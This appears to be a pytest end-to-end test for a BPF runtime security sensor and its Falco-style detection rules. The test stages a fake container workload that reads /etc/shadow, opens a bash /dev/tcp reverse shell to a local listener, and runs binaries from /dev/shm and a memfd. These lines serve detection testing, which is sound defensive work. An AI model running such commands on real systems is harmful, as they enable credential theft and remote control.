"""End-to-end test of the runtime sensor's capture side, as root, on a real kernel.

A workload runs in its own cgroup v2 directory named like a docker container
scope (docker-<64hex>.scope) and its own mount namespace (unshare -m): a stand-in
for a container. It reads /etc/shadow, spawns a shell on a pty, writes below
/etc, opens a reverse-shell style connection to a local listener, executes a
binary from /dev/shm and from a memfd, and changes its uid. The capture driver
(tests/sensor/bpf/sensor_dump, filtered to that cgroup) must report each action
with the right fields and container id; a quiet baseline workload in another
such cgroup must produce none of them. When `douane sensor` can run live, the
Falco stable rules plus douane's own must raise the matching alerts and none
for the baseline.

Skips (never passes silently) when not root, without BTF, without a cgroup v2
mount, or when the BPF programs cannot load here.
"""
import json
import os
import secrets
import shutil
import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
SHARED = ROOT.parent / "shared"
PY = "/usr/bin/python3"


def _build_dir():
    b = os.environ.get("DOUANE_BIN")
    if b:
        return Path(b).resolve().parents[2]
    for name in ("build-bpf-test", "build-test", "build-bpf", "build-dev"):
        if (ROOT / name / "build.ninja").exists():
            return ROOT / name
    return ROOT / "build-test"


BUILD = _build_dir()
DUMP = BUILD / "tests" / "sensor" / "bpf" / "sensor_dump"
DOUANE = Path(os.environ.get("DOUANE_BIN", BUILD / "src" / "cli" / "douane"))


def _cgroup2_mount():
    with open("/proc/mounts") as f:
        for line in f:
            parts = line.split()
            if len(parts) > 2 and parts[2] == "cgroup2":
                return Path(parts[1])
    return None


def _skip_reason():
    if os.geteuid() != 0:
        return "sensor e2e needs root to load BPF programs"
    if not Path("/sys/kernel/btf/vmlinux").exists():
        return "kernel has no BTF (/sys/kernel/btf/vmlinux)"
    if _cgroup2_mount() is None:
        return "no cgroup v2 mount to place the workload in"
    if not DUMP.exists():
        return f"capture driver not built ({DUMP}); build without BPF support?"
    try:
        lockdown = Path("/sys/kernel/security/lockdown").read_text()
        if "[confidentiality]" in lockdown:
            return "kernel lockdown=confidentiality forbids BPF reads"
    except OSError:
        pass
    return None


class Cgroup:
    """A throwaway cgroup v2 directory named like a docker container scope."""

    def __init__(self):
        self.id = secrets.token_hex(32)
        self.path = _cgroup2_mount() / f"docker-{self.id}.scope"
        self.path.mkdir()

    def remove(self):
        for _ in range(50):
            try:
                procs = (self.path / "cgroup.procs").read_text().split()
            except OSError:
                return
            if not procs:
                break
            time.sleep(0.1)
        try:
            self.path.rmdir()
        except OSError:
            pass


class Sensor:
    """The capture driver, filtered to some cgroups, writing JSON lines."""

    def __init__(self, tmp, cgroups):
        self.out = tmp / "events.jsonl"
        self.err = tmp / "sensor.err"
        ready = tmp / "ready"
        args = [str(DUMP), "--ready", str(ready)]
        for cg in cgroups:
            args += ["--cgroup", str(cg.path)]
        self.proc = subprocess.Popen(args, stdout=open(self.out, "w"), stderr=open(self.err, "w"))
        deadline = time.time() + 20
        while not ready.exists():
            if self.proc.poll() is not None:
                msg = self.err.read_text()
                if self.proc.returncode == 77:
                    pytest.skip(f"BPF cannot load here: {msg.strip()}")
                pytest.fail(f"sensor_dump exited {self.proc.returncode}: {msg}")
            if time.time() > deadline:
                self.proc.kill()
                pytest.fail("sensor_dump did not attach within 20 s")
            time.sleep(0.05)
        self.mode = ready.read_text().strip()

    def stop(self):
        time.sleep(0.5)         # let the last records be polled
        self.proc.terminate()
        self.proc.wait(timeout=20)
        events = [json.loads(l) for l in self.out.read_text().splitlines() if l.strip()]
        return events, self.err.read_text()


def run_in_container(cg, script, timeout=60):
    """Run a bash script inside cg, in a new mount namespace; the script joins the
    cgroup itself first so every action after that line is inside it."""
    wrapper = f'echo $$ > {cg.path}/cgroup.procs\n' + script
    return subprocess.run(["unshare", "-m", "bash", "-c", wrapper], timeout=timeout,
                          capture_output=True, text=True)


class Listener:
    """127.0.0.1 listener standing in for an attacker's reverse-shell endpoint."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(4)
        self.port = self.sock.getsockname()[1]
        self.t = threading.Thread(target=self._serve, daemon=True)
        self.t.start()

    def _serve(self):
        self.sock.settimeout(30)
        try:
            while True:
                c, _ = self.sock.accept()
                c.sendall(b"exit\n")
                time.sleep(0.2)
                c.close()
        except OSError:
            pass

    def close(self):
        self.sock.close()


@pytest.fixture(scope="module")
def capture(tmp_path_factory):
    reason = _skip_reason()
    if reason:
        pytest.skip(reason)
    tmp = tmp_path_factory.mktemp("sensor")
    bad, quiet = Cgroup(), Cgroup()
    lis = Listener()
    tag = secrets.token_hex(4)
    etc_file = f"/etc/douane-e2e-{tag}"
    shm_bin = f"/dev/shm/douane-e2e-{tag}"
    sensor = Sensor(tmp, [bad, quiet])
    try:
        workload = f"""
cat /etc/shadow > /dev/null
{PY} -c 'import pty; pty.spawn(["/bin/sh", "-c", "true"])' < /dev/null > /dev/null
echo x > {etc_file}
rm -f {etc_file}
bash -c 'exec 3<>/dev/tcp/127.0.0.1/{lis.port}; sh <&3 >&3 2>&3'
cp /bin/true {shm_bin}
{shm_bin}
rm -f {shm_bin}
{PY} -c 'import os; fd = os.memfd_create("douane-e2e", 0); os.write(fd, open("/bin/true", "rb").read()); os.execv("/proc/self/fd/%d" % fd, ["memfd-true"])'
{PY} -c 'import os; os.setgid(65534); os.setuid(65534)'
"""
        r = run_in_container(bad, workload)
        assert r.returncode == 0, r.stderr
        q = run_in_container(quiet, "sleep 0.2\nls / > /dev/null\ndate > /dev/null\n")
        assert q.returncode == 0, q.stderr
        events, err = sensor.stop()
    finally:
        if sensor.proc.poll() is None:
            sensor.proc.kill()
        lis.close()
        for p in (etc_file, shm_bin):
            try:
                os.unlink(p)
            except FileNotFoundError:
                pass
        bad.remove()
        quiet.remove()
    host_mntns = os.stat("/proc/self/ns/mnt").st_ino
    return {"events": events, "err": err, "bad": bad, "quiet": quiet, "port": lis.port,
            "etc_file": etc_file, "shm_bin": shm_bin, "mode": sensor.mode,
            "host_mntns": host_mntns}


def of(cap, cg):
    return [e for e in cap["events"] if e.get("container_id") == cg.id]


def find(evs, **want):
    out = []
    for e in evs:
        if all(e.get(k) == v for k, v in want.items()):
            out.append(e)
    return out


def test_attach_mode_and_no_drops(capture):
    assert capture["mode"] in ("tp_btf", "raw_tp", "tp")
    print(f"attach mode: {capture['mode']}")
    stats = [l for l in capture["err"].splitlines() if "stats" in l][-1]
    assert " drops=0 " in stats, stats
    assert " decode_errors=0 " in stats, stats


def test_events_carry_container_and_namespace(capture):
    evs = of(capture, capture["bad"])
    assert evs, "no event attributed to the workload's container id"
    assert all(e["mntns"] != capture["host_mntns"] for e in evs)
    assert all(e["container_id"] == capture["bad"].id for e in evs)
    assert any(e.get("container", {}).get("runtime") == "docker" for e in evs)


def test_read_etc_shadow(capture):
    hits = find(of(capture, capture["bad"]), type="open", path="/etc/shadow", comm="cat")
    assert hits, "open of /etc/shadow not seen"
    e = hits[0]
    assert e["res"] >= 0 and e["flags"] & 3 == os.O_RDONLY
    assert e["syscall"] in ("openat", "open", "openat2")
    assert e["proc"]["exepath"].endswith("cat")
    assert e["parent"]["comm"] == "bash"


def test_shell_with_terminal(capture):
    hits = [e for e in find(of(capture, capture["bad"]), type="execve", path="/bin/sh")
            if e.get("proc", {}).get("tty", 0) != 0]
    assert hits, "exec of /bin/sh with a controlling tty not seen"
    assert hits[0]["argv"][:2] == ["/bin/sh", "-c"]


def test_write_below_etc(capture):
    f = capture["etc_file"]
    hits = find(of(capture, capture["bad"]), type="open", path=f)
    assert hits, "open for write below /etc not seen"
    assert hits[0]["flags"] & os.O_WRONLY and hits[0]["flags"] & os.O_CREAT
    assert find(of(capture, capture["bad"]), type="unlink", path=f), "its cleanup unlink not seen"


def test_reverse_shell_connect_and_dup(capture):
    evs = of(capture, capture["bad"])
    con = [e for e in find(evs, type="connect", dip="127.0.0.1", dport=capture["port"])]
    assert con, "connect to the listener not seen"
    assert con[0]["comm"] == "bash" and con[0]["sock_family"] == socket.AF_INET
    assert con[0]["res"] == 0 and con[0]["sip"] == "127.0.0.1" and con[0]["sport"] > 0
    dups = [e for e in find(evs, type="dup", dip="127.0.0.1", dport=capture["port"])]
    assert dups, "dup2 of the socket onto stdin/stdout not seen"
    assert {d["res"] for d in dups} >= {0, 1}


def test_exec_from_dev_shm(capture):
    hits = find(of(capture, capture["bad"]), type="execve", path=capture["shm_bin"])
    assert hits, "exec from /dev/shm not seen"
    assert hits[0]["proc"]["exepath"] == capture["shm_bin"]


def test_exec_from_memfd(capture):
    evs = of(capture, capture["bad"])
    mk = find(evs, type="memfd_create", path="douane-e2e")
    assert mk and mk[0]["res"] >= 0, "memfd_create not seen"
    ex = [e for e in find(evs, type="execve") if e.get("argv", [None])[0] == "memfd-true"]
    assert ex, "exec of the memfd not seen"
    assert ex[0]["proc"]["exepath"].startswith("memfd:douane-e2e")


def test_setuid(capture):
    evs = of(capture, capture["bad"])
    su = find(evs, type="setuid", new_uid=65534, res=0)
    assert su, "setuid(65534) not seen"
    assert su[0]["uid"] == 0
    assert find(evs, type="setgid", new_gid=65534, res=0)


def test_quiet_baseline_is_quiet(capture):
    evs = of(capture, capture["quiet"])
    assert evs, "the baseline workload produced no event at all (is it in its cgroup?)"
    noisy = [e for e in evs if e["type"] in ("connect", "setuid", "setgid", "memfd_create", "ptrace",
                                             "init_module", "mount", "unlink", "rename")
             or (e["type"] == "open" and e.get("path", "").startswith(("/etc/shadow", "/etc/douane")))]
    assert not noisy, noisy[:3]


# ---- rules level, through `douane sensor` when it can run live ----

def _douane_live_ok():
    if not DOUANE.exists():
        return "douane binary not built"
    h = subprocess.run([str(DOUANE), "sensor", "--help"], capture_output=True, text=True)
    if h.returncode != 0 or "--rules" not in h.stdout:
        return "douane sensor has no --rules yet"
    return None


def test_rules_fire_live(tmp_path):
    reason = _skip_reason() or _douane_live_ok()
    if reason:
        pytest.skip(reason)
    rules = [SHARED / "rules" / "falco_rules.yaml"]
    own = ROOT / "rules" / "douane_rules.yaml"
    if own.exists():
        rules.append(own)
    cg, quiet = Cgroup(), Cgroup()
    alerts_file = tmp_path / "alerts.jsonl"
    args = [str(DOUANE), "sensor", "--stats", "-o", str(alerts_file)]
    for r in rules:
        args += ["--rules", str(r)]
    helptext = subprocess.run([str(DOUANE), "sensor", "--help"], capture_output=True, text=True).stdout
    filtered = "--cgroup" in helptext
    if filtered:
        args += ["--cgroup", str(cg.path), "--cgroup", str(quiet.path)]
    err = open(tmp_path / "sensor.err", "w")
    p = subprocess.Popen(args, stderr=err)
    tag = "douane-e2e-" + secrets.token_hex(4)
    shm_bin = f"/dev/shm/{tag}"
    lis = Listener()
    bindir = tmp_path / "bin"
    bindir.mkdir()
    # a container runtime's name for the pty shell's parent (Falco's container_entrypoint)
    (bindir / "runc").symlink_to(shutil.which("script"))
    try:
        time.sleep(3)           # attach
        if p.poll() is not None:
            msg = (tmp_path / "sensor.err").read_text()
            pytest.fail(f"douane sensor exited {p.returncode}: {msg}")
        run_in_container(cg, f"""
cat /etc/shadow /nonexistent/{tag} > /dev/null 2>&1 || true
{bindir}/runc -qc "/bin/sh -c 'true {tag}'" /dev/null < /dev/null > /dev/null
bash -c 'exec 3<>/dev/tcp/127.0.0.1/{lis.port}; sh <&3 >&3 2>&3 # {tag}'
echo x > /etc/{tag}; rm -f /etc/{tag}
{PY} -c 'import os; os.setresuid(65534, 65534, 0); os.setuid(0)'
cp /bin/true {shm_bin}; {shm_bin}; rm -f {shm_bin}
{PY} -c 'import os; fd = os.memfd_create("%s", 0); os.write(fd, open("/bin/true", "rb").read()); os.execv("/proc/self/fd/%d" % fd, ["memfd-true"])' {tag}
""".replace('"%s"', "sys.argv[1]").replace("import os;", "import os, sys;"))
        run_in_container(quiet, "sleep 0.2\n")
        time.sleep(2)
    finally:
        p.terminate()
        p.wait(timeout=20)
        err.close()
        lis.close()
        cg.remove()
        quiet.remove()
        for f in (shm_bin, f"/etc/{tag}"):
            try:
                os.unlink(f)
            except FileNotFoundError:
                pass
    alerts = [json.loads(l) for l in alerts_file.read_text().splitlines() if l.strip()] \
        if alerts_file.exists() else []

    # Falco's outputs rarely print container.id, so attribute alerts by what only
    # this run's workloads contain: the unique /dev/shm name, the memfd name, and the
    # cgroup path on the workload shells' command lines.
    def text(a):
        return json.dumps(a)

    # container.id is Falco's 12-character short id
    mine = [a for a in alerts if tag in text(a) or cg.id[:12] in text(a)]
    rules_fired = {a["rule"] for a in mine}
    print("alerts for the workload:", sorted(rules_fired))
    assert "Execution from /dev/shm" in rules_fired or "Drop and execute new binary in container" in rules_fired, rules_fired
    assert "Read sensitive file untrusted" in rules_fired, rules_fired
    assert "Fileless execution via memfd_create" in rules_fired, rules_fired
    assert "Terminal shell in container" in rules_fired, rules_fired
    assert "Write below /etc" in rules_fired, rules_fired                  # douane's rules
    assert "Reverse shell connect" in rules_fired, rules_fired
    assert "Privilege change to root" in rules_fired, rules_fired
    assert "Redirect STDOUT/STDIN to Network Connection in Container" in rules_fired, rules_fired
    assert not [a for a in alerts if quiet.id[:12] in text(a)], "baseline raised alerts"
    if filtered:
        # only the two test cgroups are watched: every alert must be the workload's
        others = [a["rule"] + ": " + a["output"][:160] for a in alerts if a not in mine]
        assert not others, others
